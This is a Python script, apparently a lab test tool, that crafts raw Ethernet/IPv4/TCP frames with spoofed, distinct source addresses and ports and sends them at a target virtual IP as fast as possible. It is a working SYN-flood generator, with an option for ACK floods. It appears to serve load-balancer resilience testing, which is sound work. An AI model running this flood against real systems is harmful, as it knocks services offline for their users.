#!/usr/bin/env python3
"""Spoofed TCP SYNs at a VIP, each from its own source (address and port), as fast as one
process can write them to a raw socket: the lab's SYN flood (Tests/EndToEnd/test_syn_flood.py).

    lab-synflood.py --interface IF --src-mac MAC --dst-mac MAC --vip 203.0.113.10 --port 80
                    --sources 192.0.2.128/25 --count 1200000 [--deadline 60]

Run it in a lab namespace only: frames leave IF as they are (Ethernet, IPv4, TCP SYN with valid
checksums). Source i is address (i mod N) of the --sources prefix and port 1024 + i div N, so
--count sources are all distinct (up to N x 64,511). Prints one JSON line: sent, seconds, rate.
"""
import argparse
import errno
import ipaddress
import json
import socket
import struct
import sys
import time


def fold(total):
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total


def words(data):
    return sum(struct.unpack(f"!{len(data) // 2}H", data))


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--interface", required=True)
    parser.add_argument("--src-mac", required=True)
    parser.add_argument("--dst-mac", required=True)
    parser.add_argument("--vip", required=True, type=ipaddress.IPv4Address)
    parser.add_argument("--port", type=int, default=80)
    parser.add_argument("--sources", required=True, type=ipaddress.IPv4Network)
    parser.add_argument("--count", type=int, required=True)
    parser.add_argument("--deadline", type=float, default=60.0, help="seconds at most")
    parser.add_argument("--flags", type=lambda v: int(v, 0), default=0x02,
                        help="TCP flags (default 0x02, SYN; 0x10, a bare ACK, shows what a flood that makes entries does)")
    args = parser.parse_args()
    addresses = args.sources.num_addresses
    if args.count > addresses * (65535 - 1024):
        sys.exit(f"--count {args.count}: at most {addresses * (65535 - 1024)} distinct sources in {args.sources}")

    mac = lambda text: bytes.fromhex(text.replace(":", ""))
    ether = mac(args.dst_mac) + mac(args.src_mac) + b"\x08\x00"
    # IPv4: the source address and the header checksum are filled in per frame.
    ip = bytearray(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0x4000, 64, 6, 0, b"\0" * 4, args.vip.packed))
    # TCP SYN (or --flags), window 64240, the source port and checksum per frame.
    tcp = bytearray(struct.pack("!HHIIBBHHH", 0, args.port, 0x12345678, 0, 5 << 4, args.flags, 64240, 0, 0))
    ip_base = words(bytes(ip))
    tcp_base = words(bytes(tcp)) + words(b"\0" * 4 + args.vip.packed) + 6 + len(tcp)
    frame = bytearray(ether + ip + tcp)
    first = int(args.sources.network_address)

    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    sock.bind((args.interface, 0))
    start = time.monotonic()
    deadline = start + args.deadline
    sent = 0
    pack = struct.pack_into
    for i in range(args.count):
        if i & 0x3FFF == 0 and time.monotonic() > deadline:
            break
        address = first + i % addresses
        sport = 1024 + i // addresses
        address_words = (address >> 16) + (address & 0xFFFF)
        pack("!I", frame, 26, address)
        pack("!H", frame, 24, ~fold(ip_base + address_words) & 0xFFFF)
        pack("!H", frame, 34, sport)
        pack("!H", frame, 50, ~fold(tcp_base + address_words + sport) & 0xFFFF)
        while True:
            try:
                sock.send(frame)
                break
            except BlockingIOError:
                time.sleep(0.0005)
            except OSError as error:
                if error.errno != errno.ENOBUFS:  # the queue is full for a moment
                    raise
                time.sleep(0.0005)
        sent += 1
    seconds = time.monotonic() - start
    print(json.dumps({"sent": sent, "seconds": round(seconds, 3), "rate": round(sent / seconds) if seconds else 0}))
    return 0 if sent == args.count else 1


if __name__ == "__main__":
    sys.exit(main())
